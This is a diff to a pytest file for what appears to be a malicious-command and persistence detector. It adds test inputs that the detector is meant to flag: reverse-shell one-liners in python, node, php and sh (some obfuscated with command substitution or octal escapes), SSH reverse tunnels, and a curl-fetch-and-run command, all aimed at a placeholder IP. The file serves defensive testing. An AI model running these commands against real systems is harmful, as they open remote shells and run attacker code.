@@ -159,6 +159,12 @@ def test_a_symlink_target_with_a_tab_or_newline_is_never_silent(tmp_path):
         f"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"{IP}:1\");STDIN->fdopen($c,r);system$_ while<>;'",
         f"zsh -c 'zmodload zsh/net/tcp && ztcp {IP} 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
         f"echo x | gzip -d | sh; LD_PRELOAD=/var/tmp/.l.so /usr/sbin/cron {IP}",
+        f"python3 -c \"import os;os.system('nc -e /bin/sh {IP} 1')\"",
+        f"python3 -c 'import pty,socket,os;s=socket.create_connection((\"{IP}\",1));os.dup2(s.fileno(),0)'",
+        f'node -e \'require("child_process").exec("nc -e /bin/sh {IP} 1")\'',
+        f"php -r '$s=fsockopen(\"{IP}\",1);`sh <&3 >&3`;'",
+        f'sh -c "$(echo nc -e /bin/sh {IP} 1)"',
+        f"sh -c \"$(printf '\\156\\143 -e /bin/sh {IP} 1')\"",
     ],
 )
 def test_judge_sees_through_obfuscation(text):
@@ -228,3 +234,23 @@ def test_authorized_keys_option_names_in_any_case(tmp_path):
     found = {f.entry.path: f for f in parse_persistence(run_piece(root)).findings}
     assert found[f"{root}/root/.ssh/authorized_keys"].tier is Tier.HIGH  # sshd matches names case-insensitively
     assert found[f"{root}/root/.ssh/authorized_keys2"].tier is Tier.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"ssh -fNR 4444:127.0.0.1:22 u@{IP}",
+        f"autossh -M 0 -f -N -R 2222:localhost:22 u@{IP}",
+        f'sh -c "$(curl -fsSL http://{IP}/x)"',
+    ],
+)
+def test_reverse_tunnels_and_substituted_downloads_are_medium(text):
+    assert judge(text) and judge(text)[0][0] is Tier.MEDIUM, judge(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['sh -c "$(date)"', "ssh -p 2222 backup@h rsync --server", 'python3 -c "print(1)"', 'printf "%s\\n" done'],
+)
+def test_benign_commands_stay_clean(text):
+    assert judge(text) == [], judge(text)
